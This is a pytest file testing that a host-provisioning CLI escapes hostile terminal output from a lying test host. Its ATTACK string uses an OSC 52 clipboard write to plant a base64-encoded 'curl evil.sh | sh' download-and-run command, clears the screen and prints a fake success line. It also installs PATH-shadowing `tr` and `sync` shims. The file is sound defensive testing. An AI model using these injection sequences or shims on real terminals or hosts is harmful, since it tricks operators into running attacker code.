"""Issue 23 on test hosts: a host that lies cannot write to the operator's terminal.

The lying agent's os-release carries the review's escape sequences (set the clipboard, clear
the screen, print a fake success line), its probe output filter lets every byte through (the
filter runs on the host, so a hostile host skips it), and every `sync` it runs fails with
the same sequences as its last stderr line. `facts`, `check --hosts` and `up` (plain, on a
terminal, and `--json`) show what it said, escaped; no raw escape byte reaches stdout or
stderr, and the honest server converges.
"""

import json
import re

import pytest
import testhosts
from clirun import run_bootstrap, run_bootstrap_on_terminal
from labinv import write_inventory

pytestmark = pytest.mark.hosts

ATTACK = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\\x1b[2J\x1b[H✓ all hosts converged"
LIAR_FILES = {
    "/etc/os-release": f'PRETTY_NAME="{ATTACK}"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n',
    # First on the PATH of the login user and of sudo: the probe's `tr -c ...` filter becomes `cat`.
    "/usr/local/bin/tr": ("#!/bin/sh\ncase \"$1\" in -c) exec cat;; esac\nexec /usr/bin/tr \"$@\"\n", 0o755),
    # Every host file is synced before it is renamed into place (bootstrap/host/parts/placing.py).
    "/usr/local/bin/sync": (f"#!/bin/sh\nprintf '%s\\n' 'sync: error syncing' '{ATTACK}' >&2\nexit 1\n", 0o755),
}
LIVE_VIEW_CODES = re.compile(r"\033\[(?:\d+F|2K|3[12]m|0m)")  # the live view's own: up, clear, colours


def assert_terminal_safe(*texts):
    for text in texts:
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), text
        assert not any(line.startswith("✓ all hosts converged") for line in text.splitlines()), text


def test_a_lying_host_cannot_write_to_the_operators_terminal(lab, tmp_path, airgap):
    hosts = lab.start(["tm-cp", testhosts.HostSpec("tm-liar", extra_files=LIAR_FILES)])
    inventory = write_inventory(tmp_path / "inv.yaml", hosts, extra={"k3s": {"airgap": str(airgap)}})

    facts = run_bootstrap("facts", inventory)
    assert facts.returncode == 0, facts.stdout + facts.stderr
    assert_terminal_safe(facts.stdout, facts.stderr)
    assert "\\x1b]52;c;" in facts.stdout, facts.stdout  # the operator sees what the host sent, escaped
    as_json = run_bootstrap("facts", inventory, "--json")
    assert_terminal_safe(as_json.stdout, as_json.stderr)
    assert "all hosts converged" in json.loads(as_json.stdout)["hosts"]["tm-liar"]["os_pretty"]

    check = run_bootstrap("check", inventory, "--hosts", timeout=600)
    assert_terminal_safe(check.stdout, check.stderr)

    up = run_bootstrap("up", inventory, "--hosts-only", timeout=900)
    assert up.returncode == 1, up.stdout + up.stderr
    assert_terminal_safe(up.stdout, up.stderr)
    assert re.search(r"FAILED tm-liar: prepare host: \\x1b\]52;c;", up.stderr), up.stderr
    assert hosts[0].ssh("systemctl is-active k3s").stdout.strip() == "active"  # the honest one converged

    live = run_bootstrap_on_terminal("up", inventory, "--hosts-only", timeout=600)
    assert live.returncode == 1, live.stdout + live.stderr
    # (the terminal writes each line break as CR LF)
    assert_terminal_safe(LIVE_VIEW_CODES.sub("", live.stdout.replace("\r\n", "\n")), live.stderr)
    assert "prepare host" in live.stdout and "\\x1b]52;c;" in live.stdout

    events = run_bootstrap("up", inventory, "--hosts-only", "--json", timeout=600)
    assert_terminal_safe(events.stdout, events.stderr)
    parsed = [json.loads(line) for line in events.stdout.splitlines()]
    failed = [e for e in parsed if e["event"] == "step_end" and e["status"] == "failed"]
    assert [e["host"] for e in failed] == ["tm-liar"] and "all hosts converged" in failed[0]["error"]
